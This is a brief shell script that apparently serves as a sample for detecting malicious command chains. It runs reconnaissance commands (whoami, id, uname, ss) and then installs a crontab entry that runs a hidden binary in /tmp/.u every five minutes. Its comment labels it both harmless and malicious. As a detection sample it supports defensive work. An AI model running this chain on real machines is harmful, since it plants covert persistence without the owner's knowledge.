#!/bin/sh
# Harmless: the same discovery, then a crontab through the crontab tool: the chain is malicious.
whoami; id; uname -a; ss -antp 2>/dev/null
echo '*/5 * * * * /tmp/.u/agent' | crontab -
exit 0
